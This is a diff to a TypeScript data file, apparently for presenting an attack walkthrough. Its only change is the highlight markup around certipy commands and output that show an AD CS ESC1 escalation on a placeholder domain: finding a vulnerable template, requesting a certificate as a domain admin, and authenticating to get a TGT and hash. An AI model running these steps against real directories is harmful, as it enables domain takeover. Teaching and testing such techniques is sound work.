@@ -31,8 +31,8 @@ export const networkPath: AttackPath = {
       lines: [
         '$ certipy find -u tester@corp.kestrel.example -vulnerable',
         'Template Name             : VPN-User',
-        'Enrollee Supplies Subject : {+True+}',
-        'Enrollable Principals     : {+Domain Users+}',
+        'Enrollee Supplies Subject : {!True!}',
+        'Enrollable Principals     : {!Domain Users!}',
         '[!] ESC1',
       ],
     },
@@ -45,7 +45,7 @@ export const networkPath: AttackPath = {
         '$ certipy req -ca KESTREL-CA -template VPN-User \\',
         '    -upn {-da1@corp.kestrel.example-} -sid [...] {#1}',
         '[*] Successfully requested certificate',
-        '[*] Got certificate with UPN {+da1@[...]+}',
+        '[*] Got certificate with UPN {!da1@[...]!}',
       ],
       notes: ['the requester chooses the subject'],
       after: [
@@ -62,7 +62,7 @@ export const networkPath: AttackPath = {
       lines: [
         '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
         '[*] Got TGT',
-        '[*] Got hash for {+da1+}: [redacted]',
+        '[*] Got hash for {!da1!}: [redacted]',
       ],
       after: [
         '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
